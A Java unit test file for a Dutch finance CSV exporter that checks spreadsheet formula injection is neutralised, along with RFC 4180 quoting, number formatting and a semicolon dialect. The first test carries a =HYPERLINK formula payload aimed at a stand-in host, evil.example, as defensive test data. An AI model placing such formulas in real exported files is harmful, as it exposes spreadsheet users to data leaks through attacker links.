package nl.vioms.sladesk.monthend;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.math.BigDecimal;
import org.junit.jupiter.api.Test;

/** Finding 10 of issue 15: no cell of finance.csv is a live formula in a spreadsheet. */
class FinanceCsvTest {

    @Test
    void aNameThatIsAFormulaIsWrittenAsText() {
        // before: "=HYPERLINK(""https://evil.example/?x="",""Klik"")" - quoted, and still a formula
        assertEquals(
                "\"'=HYPERLINK(\"\"https://evil.example/?x=\"\",\"\"Klik\"\")\"",
                FinanceCsv.text("=HYPERLINK(\"https://evil.example/?x=\",\"Klik\")"));
    }

    @Test
    void everyFormulaStartIsNeutralised() {
        assertEquals("'+31 20 123", FinanceCsv.text("+31 20 123"));
        assertEquals("'-2+3", FinanceCsv.text("-2+3"));
        assertEquals("'@SUM(A1:A9)", FinanceCsv.text("@SUM(A1:A9)"));
        assertEquals("'\t=1+1", FinanceCsv.text("\t=1+1"));
        assertEquals("\"'\r=1+1\"", FinanceCsv.text("\r=1+1"), "a CR also needs quotes");
        assertEquals("\"'=1,2\"", FinanceCsv.text("=1,2"), "prefixed, then quoted for the comma");
    }

    @Test
    void ordinaryTextIsUnchangedAndQuotedOnlyWhereRfc4180Requires() {
        assertEquals("Bakkerij Maandeinde", FinanceCsv.text("Bakkerij Maandeinde"));
        assertEquals("a=b", FinanceCsv.text("a=b"), "only the first character counts");
        assertEquals("\"Jansen, Zn.\"", FinanceCsv.text("Jansen, Zn."));
        assertEquals("\"De \"\"Kroon\"\"\"", FinanceCsv.text("De \"Kroon\""));
        assertEquals("", FinanceCsv.text(null));
        assertEquals("", FinanceCsv.text(""));
    }

    @Test
    void numbersStayNumbersNegativeOnesToo() {
        assertEquals("-12.50", FinanceCsv.number(new BigDecimal("-12.50")), "summable in the sheet");
        assertEquals("100.00", FinanceCsv.number(new BigDecimal("100.00")));
        assertEquals("1000000", FinanceCsv.number(new BigDecimal("1E+6")), "no exponent");
        assertEquals("", FinanceCsv.number(null));
    }

    @Test
    void theDutchDialectQuotesForTheSemicolonAndWritesDecimalCommas() {
        var nl = FinanceCsv.Dialect.DUTCH;
        assertEquals("Jansen, Zn.", FinanceCsv.text("Jansen, Zn.", nl), "a comma needs no quotes there");
        assertEquals("\"Jansen; Zn.\"", FinanceCsv.text("Jansen; Zn.", nl));
        assertEquals("\"'=1;2\"", FinanceCsv.text("=1;2", nl), "prefixed, then quoted for the ;");
        assertEquals("-12,50", FinanceCsv.number(new BigDecimal("-12.50"), nl));
        assertEquals("1000000", FinanceCsv.number(new BigDecimal("1E+6"), nl), "no thousands mark");
        assertEquals(FinanceCsv.HEADER.split(",").length, FinanceCsv.HEADER_NL.split(";").length, "same columns");
    }
}
